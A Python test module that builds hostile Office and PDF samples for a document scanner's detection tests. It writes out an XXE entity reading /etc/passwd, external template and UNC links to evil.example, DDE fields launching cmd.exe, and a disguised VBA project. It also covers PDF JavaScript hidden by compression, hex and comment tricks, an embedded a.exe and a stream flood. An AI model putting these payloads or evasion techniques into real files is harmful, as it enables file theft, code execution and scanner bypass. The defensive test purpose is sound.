"""Documents that act, and hide it where a reader looks and a guard might not."""

from __future__ import annotations

import zlib
from collections.abc import Iterator
from functools import partial

from tests.features.files.samples import DOCX, XLSX, object_stream, office, pdf, relation
from tests.hostile.made import ACTIVE, ENCRYPTED, TOO_MUCH, Hostile

ENTITY = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
LINKS = "word/_rels/document.xml.rels"
SCRIPT = b"4 0 5 9 <</S/JavaScript/JS(app.alert(1))>>"


def hostile() -> Iterator[Hostile]:
    """All of them."""
    yield from _office()
    yield from _pdf()


def _office() -> Iterator[Hostile]:
    for about, members in {
        "docx that reads a file where its parts are told": {"_rels/.rels": ENTITY},
        "docx that loads where its parts are told": {
            "_rels/.rels": relation("attachedTemplate", "http://evil.example/a.dotm", "External")
        },
        "docx with macros under another name": {
            "word/other.bin": b"\xd0\xcf" + "_VBA_PROJECT".encode("utf-16-le")
        },
        "docx with a link to macros": {LINKS: relation("vbaProject", "other.bin")},
        "docx with a picture on a share": {
            LINKS: relation("image", r"\\evil.example\a\b.png", "External")
        },
        "docx with a picture on a share, by address": {
            LINKS: relation("image", "file://evil.example/a/b.png", "External")
        },
    }.items():
        yield Hostile(about, "a.docx", partial(office, DOCX, members), ACTIVE)
    for about, fields in {
        "in pieces": '<w:fldChar/><w:instrText>DD</w:instrText><w:instrText>E"c:\\a"</w:instrText>',
        "in signs by number": "<w:fldChar/><w:instrText> &#68;&#68;EAUTO c</w:instrText>",
        "in short": '<w:fldSimple w:instr="DDE cmd.exe"/>',
    }.items():
        text = f'<w:document xmlns:w="w">{fields}</w:document>'.encode()
        about = f"docx with a field that starts a program, {about}"
        yield Hostile(about, "a.docx", partial(office, DOCX, main=text), ACTIVE)
    for about, link in {
        "": b'<x:ddeLink xmlns:x="x" ddeService="cmd"/>',
        ", in wide signs": '<?xml version="1.0" encoding="UTF-16"?><ddeLink/>'.encode("utf-16"),
    }.items():
        about = f"xlsx with a link that starts a program{about}"
        members = {"xl/externalLinks/externalLink1.xml": link}
        yield Hostile(about, "a.xlsx", partial(office, XLSX, members), ACTIVE)
    sheet = {"xl/macrosheets/sheet1.xml": b"<a/>"}
    yield Hostile("xlsx with a sheet of macros", "a.xlsx", partial(office, XLSX, sheet), ACTIVE)


def _pdf() -> Iterator[Hostile]:
    twice = zlib.compress(zlib.compress(SCRIPT))
    for about, objects in {
        "behind a string": [object_stream(SCRIPT, b"/X(1 0 obj)")],
        "behind a long string": [object_stream(SCRIPT, b"/X(%s)" % (b"x" * 5_000))],
        "behind another line's end": [object_stream(SCRIPT).replace(b"stream\n", b"stream \r", 1)],
        "packed by a name elsewhere": [
            object_stream(SCRIPT).replace(b"/FlateDecode", b" 5 0 R"),
            b"/FlateDecode",
        ],
        "packed twice": [b"<</N 2/First 9/Filter 5 0 R>>stream\n" + twice + b"\nendstream"],
    }.items():
        yield Hostile(f"pdf with a script {about}", "a.pdf", partial(pdf, *objects), ACTIVE)
    digits = object_stream(SCRIPT, b"/X(1 0 obj)/Filter 5 0 R").replace(
        zlib.compress(SCRIPT), SCRIPT.hex().encode()
    )
    yield Hostile("pdf with a script in digits", "a.pdf", partial(pdf, digits), "file_damaged")
    yield Hostile(
        "pdf with a file beside a page",
        "a.pdf",
        partial(pdf, b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>"),
        ACTIVE,
    )
    yield Hostile(
        "pdf with a form of XML behind a remark",
        "a.pdf",
        partial(pdf, b"<</XFA%x\n5 0 R>>"),
        ACTIVE,
    )
    yield Hostile(
        "pdf encrypted behind a remark",
        "a.pdf",
        partial(pdf, trailer=b"/Encrypt%x\n4 0 R"),
        ENCRYPTED,
    )
    flood = b"/First stream\n" * 1_500_000
    yield Hostile("pdf of a million streams", "a.pdf", partial(pdf, flood), TOO_MUCH)
